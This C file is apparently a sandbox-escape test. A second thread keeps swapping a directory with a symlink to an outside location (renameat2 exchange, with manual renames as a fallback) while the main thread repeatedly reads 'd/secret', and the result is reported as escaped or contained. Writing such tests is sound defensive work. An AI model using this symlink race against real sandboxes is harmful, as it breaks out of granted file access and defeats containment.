// attack: a second thread keeps exchanging ./d between a real directory (with a decoy
// `secret`) and a symlink to OUTSIDE while the main thread opens d/secret repeatedly
// grant: --dir {outside}
#include "escape.h"
#include <pthread.h>
#include <sched.h>
#define RENAME_EXCHANGE 2
static volatile int stop;
static int xchg(const char *a, const char *b) {
    return syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
}
static void *flipper(void *arg) {
    (void)arg;
    while (!stop) {
        if (xchg("d", "alt") < 0) {
            /* no exchange: swap by hand (not atomic, still a race window) */
            rename("d", "d_real");
            rename("alt", "d");
            rename("d", "alt");
            rename("d_real", "d");
        }
    }
    return NULL;
}
int main(int argc, char **argv) {
    setup(argc, argv);
    if (mkdir("d", 0755) < 0) broken("mkdir d");
    int fd = open("d/secret", O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd < 0 || write(fd, "decoy\n", 6) != 6) broken("decoy");
    close(fd);
    if (symlink(OUT, "alt") < 0) contained("symlink: %s", E_);
    pthread_t t;
    if (pthread_create(&t, NULL, flipper, NULL)) broken("pthread_create");
    int tries, last = 0;
    for (tries = 0; tries < 20000; tries++) {
        if (tries % 64 == 63) sched_yield();
        if (read_secret("d/secret")) {
            stop = 1;
            pthread_join(t, NULL);
            escaped("read OUTSIDE/secret as d/secret after %d tries", tries + 1);
        }
        if (errno && errno != EIO) last = errno;
    }
    stop = 1;
    pthread_join(t, NULL);
    contained("%d opens, none read the secret (last error %s)", tries, errname(last));
}
